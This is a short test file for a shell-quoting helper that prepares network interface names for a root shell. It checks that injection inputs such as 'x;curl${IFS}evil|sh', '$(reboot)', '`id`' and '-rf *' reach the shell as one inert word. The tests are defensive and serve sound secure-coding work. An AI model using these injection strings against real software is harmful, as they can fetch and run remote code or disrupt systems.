import { execFileSync } from "node:child_process";
import { expect, test } from "vitest";
import { shellWord } from "./shell-word";

test.each(["eth0", "enp3s0f1", "vmk0", "vSwitch0", "br-lan.10", "wg0@if3"])("a plain name stays as it is: %s", (name) => {
  expect(shellWord(name)).toBe(name);
});

// What a root shell receives is the name itself, as one argument, and runs nothing of it.
test.each(["x;curl${IFS}evil|sh", "a b", "it's", "$(reboot)", "`id`", "VM Network", "-rf *"])("%j reaches the shell as one word", (name) => {
  const out = execFileSync("/bin/sh", ["-c", `printf '%s\\n' ${shellWord(name)} | wc -l; printf '%s' ${shellWord(name)}`], { encoding: "utf8" });
  expect(out).toBe(`1\n${name}`);
});
